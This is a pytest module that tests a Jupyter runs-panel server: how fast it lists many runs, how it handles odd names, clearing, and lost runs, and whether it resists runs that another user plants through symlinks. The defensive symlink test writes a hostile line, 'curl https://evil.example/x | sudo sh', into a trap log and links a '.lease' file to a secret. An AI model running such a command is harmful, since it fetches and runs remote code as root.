"""The runs panel's server in daily use: many ended runs, odd names, lost runs and pools, runs
planted by another user, clearing. Through the REST API of a real Jupyter server (test_lab's),
with the runs copied from one real detached run so that 150 of them cost seconds, not minutes.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import shutil
import signal
import statistics
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
import test_lab
from conftest import wait_until
from test_lab import start_detached

from nblaunch.lab.runs import RunsIndex

pytestmark = pytest.mark.slow
# test_lab's server, one for this module's tests too
_shared_server, lab_server = test_lab._shared_server, test_lab.lab_server


@pytest.fixture(scope="module")
def model_run(_shared_server):
    """One real ended detached run of 2 ranks and 300 steps (its registry entry), to copy."""
    _, work, registry = _shared_server
    with pytest.MonkeyPatch.context() as env:
        env.setenv("NBLAUNCH_DETACHED_DIR", str(registry))
        env.delenv("NBLAUNCH_RUN_DIR", raising=False)
        run_id = start_detached(work, 300, 0.002)
    path = registry / f"{run_id}.json"
    assert wait_until(lambda: json.loads(path.read_text())["state"] == "done", 60)
    return json.loads(path.read_text())


def plant(root: Path, registry: Path, model: dict, detached: int, kernel: int, tag: str) -> None:
    """Copies of ``model``: ``detached`` ended detached runs (in the registry, their
    directories under ``root/tag``) and ``kernel`` ended kernel runs under ``root``."""
    source = Path(model["run_dir"])
    for i in range(max(detached, kernel)):
        name = f"20261201-{i // 60 % 60:02d}{i % 60:02d}00-{i:06d}-{tag}"
        if i < detached:
            run_dir = root / tag / name
            shutil.copytree(source, run_dir, ignore=shutil.ignore_patterns("*.sock", ".lease"))
            entry = dict(model, run_id=name, run_dir=str(run_dir), pid=2**22 + i)
            (registry / f"{name}.json").write_text(json.dumps(entry))
        if i < kernel:
            kernel_dir = root / ".nblaunch" / "runs" / f"k{name}"
            kernel_dir.mkdir(parents=True)
            for log in (*source.glob("rank*.log"), source / "metrics.jsonl"):
                shutil.copy(log, kernel_dir / log.name)


def test_a_list_of_150_ended_runs_and_60_kernel_runs_reads_in_milliseconds(
    lab_server, model_run, tmp_path
):
    """Past 64 ended runs the old cache never hit: every read folded every history (1-2 s
    here for this list). Each run is now read once while its files stay the same."""
    server, work = lab_server
    registry = Path(os.environ["NBLAUNCH_DETACHED_DIR"])
    plant(work, registry, model_run, 150, 60, "many")
    try:
        first = server.runs()  # a second at most: the rest listed "pending", made meanwhile
        assert sum(run["id"].endswith("-many") for run in first.values()) == 210
        assert first[next(i for i in first if i.endswith("-many"))]["state"] == "done"
        assert wait_until(
            lambda: not any(run.get("pending") for run in server.runs().values()), 60, 0.5
        )
        whole = server.runs()
        assert all(
            whole[i]["devices"] == ["cpu", "cpu"]
            for i in whole
            if i.startswith("2") and i.endswith("-many")
        )
        times = []
        for _ in range(5):
            began = time.perf_counter()
            server.runs()
            times.append(time.perf_counter() - began)
        assert min(times) < 0.3, f"list reads took {times}"
    finally:
        for path in registry.glob("*-many.json"):
            path.unlink()
        shutil.rmtree(work / "many")
        for path in (work / ".nblaunch" / "runs").glob("k*-many"):
            shutil.rmtree(path)


def test_200_ended_detached_and_200_kernel_runs_list_in_under_100_ms(model_run, tmp_path):
    """The server's time for a list read: the CPU time of the thread that reads it (the wall
    time on this project's 2 shared cores is mostly other processes' turns)."""
    registry = Path(tmp_path / "registry")
    registry.mkdir(mode=0o700)
    root = tmp_path / "root"
    plant(root, registry, model_run, 200, 200, "scale")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("NBLAUNCH_DETACHED_DIR", str(registry))
        index = RunsIndex(root)
        assert len(index.records()) == 400
        cpu, wall = [], []
        for _ in range(5):
            began, began_cpu = time.perf_counter(), time.thread_time()
            index.records()
            cpu.append(time.thread_time() - began_cpu)
            wall.append(time.perf_counter() - began)
        index.close()
    assert statistics.median(cpu) < 0.1, f"list reads took {cpu} s of CPU ({wall} s)"


def test_a_run_whose_name_has_a_space_an_equals_a_plus_and_an_umlaut_opens(lab_server):
    server, work = lab_server
    run_dir = work / ".nblaunch" / "runs" / "lr=0.1 +warm über"
    run_dir.mkdir(parents=True)
    (run_dir / "rank0.log").write_text("step 0\n")
    try:
        assert server.runs()[run_dir.name]["origin"] == "the root folder"  # its notebook's
        quoted = urllib.parse.quote(run_dir.name, safe="")
        code, detail = server.request(f"/nblaunch/api/runs/{quoted}")
        assert code == 200 and detail["view"]["ranks"]["0"]["lines"] == ["step 0"]
        log = urllib.request.Request(
            f"{server.base}/nblaunch/api/runs/{quoted}/logs/rank0.log",
            headers={"Authorization": f"token {server.token}"},
        )
        with urllib.request.urlopen(log, timeout=30) as answer:
            assert answer.headers["Content-Type"].startswith("text/plain")
            assert answer.read() == b"step 0\n"
        (run_dir / "launch.pkl").write_bytes(b"not a log")
        for name in ("launch.pkl", "..%2Frank0.log", "rank9.log"):
            assert server.status(f"/nblaunch/api/runs/{quoted}/logs/{name}") == 404
        code, stopped = server.request(f"/nblaunch/api/runs/{quoted}/stop", "POST")
        assert code == 200 and stopped["stopped"] is False
        code, cleared = server.request(f"/nblaunch/api/runs/{quoted}/clear", "POST")
        assert code == 200 and cleared["cleared"] is True
        assert not run_dir.exists() and run_dir.name not in server.runs()
    finally:
        shutil.rmtree(run_dir, ignore_errors=True)


def test_a_running_run_is_not_cleared_and_an_ended_one_goes_with_its_entry(lab_server):
    server, work = lab_server
    run_id = start_detached(work, 3000, 0.05)
    registry = Path(os.environ["NBLAUNCH_DETACHED_DIR"])
    try:
        assert wait_until(lambda: server.runs().get(run_id, {}).get("state") == "running", 30)
        code, refused = server.request(f"/nblaunch/api/runs/{run_id}/clear", "POST")
        assert code == 200 and refused["cleared"] is False and "running" in refused["why"]
        run_dir = Path(server.runs()[run_id]["run_dir"])
        assert run_dir.is_dir()
        code, stopped = server.request(f"/nblaunch/api/runs/{run_id}/stop", "POST")
        assert stopped == {"stopped": True, "state": "stopped"}
        pid = json.loads((registry / f"{run_id}.json").read_text())["pid"]

        def cleared() -> bool:  # refused while the host still ends (it writes its outcome)
            code, answer = server.request(f"/nblaunch/api/runs/{run_id}/clear", "POST")
            assert code == 200
            assert answer["cleared"] or answer["why"] == "its host is still ending: try again"
            return answer["cleared"]

        assert wait_until(cleared, 30, 0.2)
        assert (
            not os.path.exists(f"/proc/{pid}")
            or b"nblaunch.host" not in Path(f"/proc/{pid}/cmdline").read_bytes()
        )
        assert not run_dir.exists() and not (registry / f"{run_id}.json").exists()
        assert run_id not in server.runs()
    finally:
        with contextlib.suppress(OSError, KeyError):
            os.kill(json.loads((registry / f"{run_id}.json").read_text())["pid"], signal.SIGKILL)


def test_a_lost_run_says_why_and_its_ranks_are_lost_with_it(lab_server):
    server, work = lab_server
    run_id = start_detached(work, 3000, 0.05)
    registry = Path(os.environ["NBLAUNCH_DETACHED_DIR"])
    pid = json.loads((registry / f"{run_id}.json").read_text())["pid"]
    assert wait_until(lambda: (server.runs()[run_id]["last_step"] or 0) > 3, 60)
    os.kill(pid, signal.SIGKILL)  # the host dies; its ranks follow it
    assert wait_until(lambda: server.runs()[run_id]["state"] == "lost", 30)
    run = server.runs()[run_id]
    assert "lost" in run["cause"] and run["origin"] == "train.py"
    _, detail = server.request(f"/nblaunch/api/runs/{run_id}")
    assert {rank["state"] for rank in detail["view"]["ranks"].values()} == {"LOST"}
    (why,) = [d for d in detail["view"]["diagnoses"] if "lost" in d["title"]]
    assert f"pid {pid}" in why["body"] and "The end of host.log:" in why["body"]
    assert detail["view"]["ended"]["ok"] is False


def test_a_running_pool_shows_its_ranks_running_on_their_devices(lab_server):
    server, work = lab_server
    (work / "pool_view.py").write_text(
        "import time, nblaunch\n"
        "pool = nblaunch.start_pool(2, detach=True, device_type='cpu')\n"
        "print(pool.entry.run_id, flush=True)\n"
        "time.sleep(120)\n"
    )
    terminal = subprocess.Popen(
        [sys.executable, "pool_view.py"], cwd=work, stdout=subprocess.PIPE, text=True
    )
    pool_id = ""
    try:
        pool_id = terminal.stdout.readline().strip()
        code, detail = server.request(f"/nblaunch/api/runs/{pool_id}")
        assert code == 200 and detail["state"] == "running"
        ranks = detail["view"]["ranks"]
        assert {rank["state"] for rank in ranks.values()} == {"RUNNING"}, ranks
        assert [ranks[r]["device"] for r in ("0", "1")] == ["cpu", "cpu"]
        assert server.runs()[pool_id]["devices"] == ["cpu", "cpu"]
        server.request(f"/nblaunch/api/runs/{pool_id}/stop", "POST")
        code, detail = server.request(f"/nblaunch/api/runs/{pool_id}")
        assert detail["state"] == "stopped"
    finally:
        terminal.kill()
        terminal.wait(10)
        kill_host(Path(os.environ["NBLAUNCH_DETACHED_DIR"]), pool_id)


def kill_host(registry: Path, run_id: str) -> None:
    """SIGKILL a detached run's host if it is still there (a test that failed midway)."""
    with contextlib.suppress(OSError, ValueError, KeyError):
        pid = json.loads((registry / f"{run_id}.json").read_text())["pid"]
        if b"nblaunch.host" in Path(f"/proc/{pid}/cmdline").read_bytes():
            os.kill(pid, signal.SIGKILL)


# --- another user -------------------------------------------------------------------------------

IN_OPEN, IN_CLOSE_WRITE = 0x20, 0x08


class Opens:
    """The opens of a file (inotify): no listing may open it, for writing least of all."""

    def __init__(self, path: Path) -> None:
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_NONBLOCK)
        watched = self.libc.inotify_add_watch(self.fd, str(path).encode(), IN_OPEN | IN_CLOSE_WRITE)
        assert watched >= 0

    def masks(self) -> list[int]:
        found = []
        with contextlib.suppress(BlockingIOError):
            data = os.read(self.fd, 65536)
            while data:
                found.append(int.from_bytes(data[4:8], "little"))
                length = int.from_bytes(data[12:16], "little")
                data = data[16 + length :]
        return found

    def close(self) -> None:
        os.close(self.fd)


NOBODY = 65534


def theirs(*paths: Path) -> None:
    """Make what the test made another user's (uid 65534), links themselves included: what
    the server sees of a file the other user made."""
    for path in paths:
        os.lchown(path, NOBODY, NOBODY)


def test_runs_planted_by_another_user_are_not_listed_and_no_file_of_theirs_is_opened(
    lab_server, tmp_path
):
    """In a folder another user may write to, they link ``.nblaunch/runs/<id>`` to a directory
    of the server's user (here a sticky world-writable one, as /tmp) holding that user's
    ``rank0.log``, and plant a ``.lease`` link there to a file they chose."""
    if os.getuid() != 0:
        pytest.skip("another user's files need root to make (CI runs as root)")
    server, work = lab_server
    project = work / "project"  # a group project: others write into it
    project.mkdir(mode=0o777)
    trap = tmp_path / "trap"  # the server's user's, writable by all, as /tmp is
    trap.mkdir(mode=0o1777)
    (trap / "rank0.log").write_text("run: curl https://evil.example/x | sudo sh\n")
    chosen = tmp_path / "chosen"  # the file the attacker wants opened read-write
    chosen.write_text("secret\n")
    # Their own .nblaunch/runs with a link in it; the server user's own runs folder, made
    # writable by others by mistake, with another link; and the .lease link in the trap.
    (project / ".nblaunch" / "runs").mkdir(parents=True)
    planted1 = project / ".nblaunch" / "runs" / "20261205-010000-planted1"
    planted1.symlink_to(trap)
    theirs(project / ".nblaunch", project / ".nblaunch" / "runs", planted1)
    mine = work / "mistake" / ".nblaunch" / "runs"
    mine.mkdir(parents=True, mode=0o777)
    planted2 = mine / "20261205-020000-planted2"
    planted2.symlink_to(trap)
    (trap / ".lease").symlink_to(chosen)
    theirs(planted2, trap / ".lease")
    # And a run directory of the server user's own, whose .lease is a link (planted while the
    # directory was writable): it is listed, but the link is not followed.
    own = mine / "20261205-030000-own"
    own.mkdir()
    (own / "rank0.log").write_text("step 0\n")
    (own / ".lease").symlink_to(chosen)
    opens = Opens(chosen)
    try:
        listed = server.runs()
        for _ in range(3):
            listed = server.runs()
        assert "20261205-010000-planted1" not in listed
        assert "20261205-020000-planted2" not in listed
        assert "curl" not in json.dumps(listed)
        for planted in ("20261205-010000-planted1", "20261205-020000-planted2"):
            assert server.status(f"/nblaunch/api/runs/{planted}") == 404
            assert server.status(f"/nblaunch/api/runs/{planted}/events") == 404
        assert listed["20261205-030000-own"]["state"] == "ended"
        _, detail = server.request("/nblaunch/api/runs/20261205-030000-own")
        assert detail["view"]["ranks"]["0"]["lines"] == ["step 0"]
        assert opens.masks() == [], "a listing opened the file a link pointed to"
        assert chosen.read_text() == "secret\n"
    finally:
        opens.close()
        shutil.rmtree(project, ignore_errors=True)
        shutil.rmtree(work / "mistake", ignore_errors=True)


def test_a_read_past_its_budget_lists_the_rest_pending_and_makes_them_meanwhile(
    model_run, tmp_path, monkeypatch
):
    from nblaunch.lab import runs

    registry = tmp_path / "registry"
    registry.mkdir(mode=0o700)
    plant(tmp_path / "root", registry, model_run, 5, 5, "budget")
    monkeypatch.setenv("NBLAUNCH_DETACHED_DIR", str(registry))
    monkeypatch.setattr(runs, "LIST_BUDGET_S", 0.0)  # no time to make any
    index = RunsIndex(tmp_path / "root")
    try:
        first = index.records()
        assert len(first) == 10 and all(record["pending"] for record in first)
        assert {r["state"] for r in first if r["detached"]} == {"done"}  # from the registry
        assert wait_until(lambda: not any(r.get("pending") for r in index.records()), 30)
        detached = [record for record in index.records() if record["detached"]]
        assert all(record["devices"] == ["cpu", "cpu"] for record in detached)
        assert all(record["last_step"] == 299 for record in index.records())
    finally:
        index.close()
